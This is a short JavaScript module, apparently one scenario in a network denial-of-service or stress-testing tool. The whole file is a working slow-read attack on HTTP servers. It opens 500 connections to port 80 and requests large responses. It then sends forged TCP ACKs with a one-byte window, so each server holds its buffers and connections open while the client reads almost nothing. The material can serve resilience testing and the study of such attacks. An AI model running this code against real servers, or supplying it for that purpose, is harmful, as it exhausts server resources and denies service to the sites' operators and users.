import { ACK } from '../peers.js'

export const summary =
  'answers of HTTP that nobody takes: the server has ended, the peer takes an octet now and then'

const REQUEST = Buffer.from('GET /bytes/1000000 HTTP/1.0\r\n\r\n')

export const attack = async (peers, { goesOn }) => {
  const all = await peers.connectMany(500, 80, { scale: 0, window: 100 })
  for (const c of all) {
    c.write(REQUEST)
    if (!(await goesOn(2))) return
  }
  let taken = 0
  while (await goesOn(500)) {
    taken++
    for (const c of all) c.send(ACK, { ack: (c.first + taken) | 0, window: 1 })
  }
}
